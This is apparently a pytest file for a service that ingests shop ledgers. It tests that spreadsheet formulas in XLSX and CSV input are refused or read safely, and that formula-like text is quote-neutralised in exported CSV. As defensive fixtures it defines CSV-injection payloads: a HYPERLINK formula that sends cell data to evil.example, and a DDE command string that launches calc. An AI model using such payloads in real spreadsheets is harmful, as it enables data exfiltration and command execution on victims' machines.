"""Spreadsheet formulas in shop ledgers: XLSX formula cells refused or read as saved values, formula-like text
kept verbatim and defused in the CSV that gridsvc writes (gridsvc/readers/ledger.py, gridsvc/spreadsheet.py)."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import h3
import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.formula import ArrayFormula
from sqlalchemy import text
from support import raises_exactly, write_csv, write_xlsx

from gridsvc.city.readers.ledger import read_ledger
from gridsvc.errors import InputError
from gridsvc.files.spreadsheet import formula_like, neutralise, neutralise_frame
from gridsvc.files.spreadsheet import write_csv as write_safe_csv

HEADER = ["序号", "商户名称", "详细地址", "负责人", "联系电话", "经度（°）", "纬度（°）", "业态"]  # as in test_ledger
HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"]
HARMLESS = ["老王刀削面", "+86 138 0000 0000", "-12.5", "+3", "-", "0351-4045678", "", None, "a=b", "C&A"]


def shops(names: list, lng: list | None = None, lat: list | None = None) -> list[list]:
    """HEADER plus one shop per name (Taiyuan coordinates unless given)."""
    lng = lng or [112.55 + i * 1e-3 for i in range(len(names))]
    lat = lat or [37.85 + i * 1e-3 for i in range(len(names))]
    return [HEADER, *[[f"A{i:03}", n, "迎泽大街1号", "王建国", "13812345678", x, y, "餐饮"]
                      for i, (n, x, y) in enumerate(zip(names, lng, lat, strict=True))]]


def with_cached_values(path: Path, values: dict[str, str]) -> Path:
    """The workbook with these saved results for its formula cells (what Excel/WPS store with a formula;
    '#…' is saved as an error value)."""
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    for cell, value in values.items():
        kind = ' t="e"' if value.startswith("#") else ""
        sheet, n = re.subn(rf'<c r="{cell}"([^>]*)>\s*(<f>[^<]*</f>)\s*<v\s*(?:/>|>\s*</v>)',
                           rf'<c r="{cell}"\g<1>{kind}>\g<2><v>{value}</v>', sheet)
        assert n == 1, cell
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


# --- XLSX formula cells ---------------------------------------------------------------------------------------

def test_a_formula_in_a_text_column_is_refused_naming_sheet_cell_and_column(tmp_path):
    path = write_xlsx(tmp_path / "台账.xlsx", shops(["甲", HYPERLINK, "丙"]), title="商户")
    err = raises_exactly(InputError, path)
    assert err.where == "sheet '商户', cell B3"
    assert str(err).startswith("台账.xlsx: sheet '商户', cell B3: column '商户名称' holds a formula (=HYPERLINK(")
    assert "paste it as values" in str(err) and "数值" in str(err)
    assert "evil.example" in str(err)  # the user sees what the cell holds


def test_every_formula_cell_in_text_columns_is_counted_and_the_first_in_reading_order_named(tmp_path):
    rows = shops(["甲", "乙", "丙"])
    rows[3][2] = '=B4&"路"'  # C4, 详细地址
    rows[2][4] = DDE  # E3, 联系电话
    path = write_xlsx(tmp_path / "two.xlsx", rows)
    err = raises_exactly(InputError, path)
    assert err.where == "sheet 'Sheet1', cell E3" and "column '联系电话'" in str(err)
    assert "(2 such cells: E3, C4)" in str(err)


def test_an_array_formula_is_a_formula_too(tmp_path):
    path = tmp_path / "array.xlsx"
    write_xlsx(path, shops(["甲", "乙"]))
    book = openpyxl.load_workbook(path)
    book.active["H3"] = ArrayFormula("H3:H3", '=CONCAT("餐","饮")')
    book.save(path)
    err = raises_exactly(InputError, path)
    assert err.where == "sheet 'Sheet1', cell H3" and "'业态'" in str(err) and '=CONCAT("餐","饮")' in str(err)


def test_a_text_cell_that_merely_looks_like_a_formula_is_text(tmp_path):
    path = tmp_path / "text.xlsx"
    write_xlsx(path, shops(["甲", "乙"]))
    book = openpyxl.load_workbook(path)
    cell = book.active["B3"]
    cell.value, cell.data_type = HYPERLINK, "s"  # a string cell: what Excel stores for '=… typed with a quote
    book.save(path)
    gdf, notes = read_ledger(path)
    assert gdf["name"].iloc[1] == HYPERLINK
    assert any(n.startswith("row 3: column '商户名称' starts like a spreadsheet formula") for n in notes)


def test_formulas_in_columns_that_are_not_read_are_ignored(tmp_path):
    rows = [[*r, c] for r, c in zip(shops(["甲", "乙"]), ["备注", "=SUM(1,2)", DDE], strict=True)]
    gdf, _ = read_ledger(write_xlsx(tmp_path / "remark.xlsx", rows))
    assert list(gdf["name"]) == ["甲", "乙"] and "备注" not in gdf.columns


def test_coordinate_formulas_are_read_as_their_saved_values(tmp_path):
    rows = shops(["甲", "乙"])
    rows[1][5] = "=112+33/60"  # F2, 度分 -> 度
    rows[2][6] = "=ROUND(37.8512345,4)"  # G3
    path = write_xlsx(tmp_path / "dms.xlsx", rows)
    err = raises_exactly(InputError, path)  # written by a script: no saved values
    assert err.where == "sheet 'Sheet1', cell F2" and "'经度（°）'" in str(err) and "without a saved value" in str(err)
    assert "(2 such cells: F2, G3)" in str(err)
    gdf, notes = read_ledger(with_cached_values(path, {"F2": "112.55", "G3": "37.8512"}))
    np.testing.assert_allclose(gdf["lng"], [112.55, 112.551], atol=1e-9)
    np.testing.assert_allclose(gdf["lat"], [37.85, 37.8512], atol=1e-9)
    assert any("2 coordinate cell(s) are formulas (e.g. F2)" in n for n in notes)


def test_a_saved_coordinate_value_that_is_not_a_number_is_a_normal_coordinate_error(tmp_path):
    rows = shops(["甲", "乙"])
    rows[2][5] = "=1/0"
    path = write_xlsx(tmp_path / "div0.xlsx", rows)
    with_cached_values(path, {"F3": "#DIV/0!"})
    err = raises_exactly(InputError, path)
    assert err.where == "row 3" and "'#DIV/0!', which is not a number" in str(err)


# --- formula-like text (CSV and XLSX text cells) ------------------------------------------------------------

def test_formula_like_names_in_a_csv_are_kept_verbatim_and_noted(tmp_path):
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(shops(HOSTILE))
    gdf, notes = read_ledger(path)
    stripped = [h.strip() for h in HOSTILE]  # leading TAB/CR go with the other spaces
    assert list(gdf["name"]) == stripped
    assert formula_like(gdf["name"]).all()
    note = next(n for n in notes if "starts like a spreadsheet formula" in n)
    assert note.startswith("row 2, row 3, row 4") and "'商户名称'" in note and "quoted in CSV exports" in note


def test_phones_and_signed_coordinates_still_read(tmp_path):
    rows = [["名称", "电话", "经度", "纬度"],
            ["甲", "+86 138 0000 0000", "+112.55", "+37.85"],
            ["乙", "-", "-58.3816", "-34.6037"],  # Buenos Aires: WGS84 makes no claim about China
            ["丙", "+8613800000000", "151.2093", "-33.8688"]]
    gdf, notes = read_ledger(write_csv(tmp_path / "signed.csv", rows), crs="wgs84")
    assert list(gdf["phone"]) == ["+86 138 0000 0000", "-", "+8613800000000"]
    np.testing.assert_allclose(gdf["lng"], [112.55, -58.3816, 151.2093])
    np.testing.assert_allclose(gdf["lat"], [37.85, -34.6037, -33.8688])
    assert [n for n in notes if "formula" in n] == []  # '-' for "no phone" is no formula
    xlsx_rows = [r[:2] + [float(r[2]), float(r[3])] for r in rows[1:]]
    gdf, _ = read_ledger(write_xlsx(tmp_path / "signed.xlsx", [rows[0], *xlsx_rows]), crs="wgs84")
    assert gdf["phone"].iloc[0] == "+86 138 0000 0000" and gdf["lng"].iloc[1] == pytest.approx(-58.3816)


def test_a_formula_in_a_csv_coordinate_column_is_not_a_number(tmp_path):
    rows = [["名称", "经度", "纬度"], ["甲", "=112+0.55", "37.85"]]
    err = raises_exactly(InputError, write_csv(tmp_path / "c.csv", rows))
    assert err.where == "row 2" and "'=112+0.55', which is not a number" in str(err)


# --- the output side ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_quote(value):
    assert neutralise(pd.Series([value], dtype=object)).iloc[0] == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_names_numbers_and_phones_are_left_alone(value):
    assert neutralise(pd.Series([value], dtype=object)).iloc[0] == value


def test_only_text_cells_of_a_table_change():
    table = pd.DataFrame({"seq": [1, 2], "station_m": [-3.5, 4.0], "name": [DDE, "甲"], "code": ["+1", None]})
    out = neutralise_frame(table)
    assert out["name"].tolist() == ["'" + DDE, "甲"] and out["code"].iloc[0] == "+1" and pd.isna(out["code"].iloc[1])
    assert out["seq"].tolist() == [1, 2] and out["station_m"].tolist() == [-3.5, 4.0]
    assert table["name"].iloc[0] == DDE  # the caller's table is not changed


def test_a_hostile_ledger_ends_up_quoted_in_the_walk_through_pack(clean_db, tmp_path):
    """End to end: ingest a hostile ledger, build the grid and a grid's pack; the database keeps the names as
    given, walk_order.csv (the one spreadsheet file gridsvc writes) has every formula-like cell quoted."""
    from gridsvc.city.grid import build_grid
    from gridsvc.city.ingest import ingest
    from gridsvc.exporters.pack import build_pack

    names = [*HOSTILE, "新街口百货", "+86 138 0000 0000"]
    lat0, lng0 = h3.cell_to_latlng(h3.latlng_to_cell(32.0427, 118.7836, 10))  # Nanjing 新街口: one H3 cell
    lng = [lng0 + i * 2e-5 for i in range(len(names))]
    lat = [lat0 + i * 1e-5 for i in range(len(names))]
    path = tmp_path / "台账.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(shops(names, lng, lat))
    ingest(clean_db, path)
    build_grid(clean_db, 10, "320102")
    with clean_db.connect() as c:
        stored = c.execute(text("SELECT name FROM units ORDER BY name")).scalars().all()
        grid = c.execute(text("SELECT g.code FROM grid_cells g JOIN feature_cells fc ON fc.h3 = g.h3 "
                              "AND fc.layer = 'units' LIMIT 1")).scalar_one()
        report = build_pack(c, grid, tmp_path / "pack", base_url="https://cg.example.cn")
    assert sorted(stored) == sorted(n.strip() for n in names)
    with (report.out / "walk_order.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(names)
    written = {r["name"] for r in rows}
    assert written == {"'" + n.strip() for n in HOSTILE} | {"新街口百货", "+86 138 0000 0000"}
    cells = pd.Series([v for r in rows for v in r.values()], dtype=object)
    assert cells[formula_like(cells)].tolist() == []


def test_write_csv_round_trips_through_pandas(tmp_path):
    table = pd.DataFrame({"name": [HYPERLINK, "甲"], "leg_m": [-1.5, 2.0]})
    back = pd.read_csv(write_safe_csv(table, tmp_path / "t.csv"), encoding="utf-8-sig")
    assert back["name"].tolist() == ["'" + HYPERLINK, "甲"] and back["leg_m"].tolist() == [-1.5, 2.0]
    assert (tmp_path / "t.csv").read_bytes().startswith(b"\xef\xbb\xbf")
